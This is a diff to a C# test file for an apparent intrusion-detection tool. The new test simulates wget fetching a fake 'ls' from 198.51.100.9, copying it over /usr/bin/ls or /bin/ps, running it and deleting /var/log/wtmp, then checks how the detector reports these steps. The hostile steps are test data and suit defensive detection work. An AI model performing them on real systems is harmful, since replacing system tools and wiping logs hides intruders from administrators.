@@ -177,6 +177,26 @@ public sealed class FindingTests
         Assert.Contains("198.51.100.9:80 through a pipe", finding.GetProperty("what").GetString());
     }
 
+    [Theory]
+    [InlineData("/home/ls", "/usr/bin/ls", true), InlineData("/home/ls", "/bin/ps", true), InlineData("/home/ls", "/srv/bin/ls", true)]
+    [InlineData("/home/notes", "/usr/bin/ls", false), InlineData("/home/ls", "/srv/bin/ps", false), InlineData("/home/ls", "/srv/ls", false)]
+    public void A_tool_is_replaced_by_a_copy_of_a_download_too_though_no_bytes_of_that_are_seen(string from, string to, bool isTold)
+    {
+        var capture = Session();
+        Command(capture, 110, "/usr/bin/wget", "wget", "http://198.51.100.9/ls");
+        Fetches(capture, 110, "/home/ls");
+        Command(capture, 111, "/usr/bin/cp", "cp", $"{from}\0{to}").Openat(111, 3, from, flags: 1);
+        Writes(capture, 111, to);
+        Command(capture, 112, to, "it");
+        var isOwn = !to.StartsWith("/srv");
+        Assert.Equal(isTold && isOwn, StoryRun.On(capture, "story").Contains("replaced system tools: " + to));
+        // What is not grave by itself is told beside what is.
+        Removes(capture, 102, "/var/log/wtmp");
+        var story = StoryRun.On(capture, "story");
+        Assert.Equal(isTold || isOwn, story.Contains("replaced system tools: " + to));
+        Assert.Equal(from == "/home/ls", story.Contains("ran what was downloaded"));
+    }
+
     [Fact]
     public void A_hostile_path_can_write_no_line_of_the_story()
     {
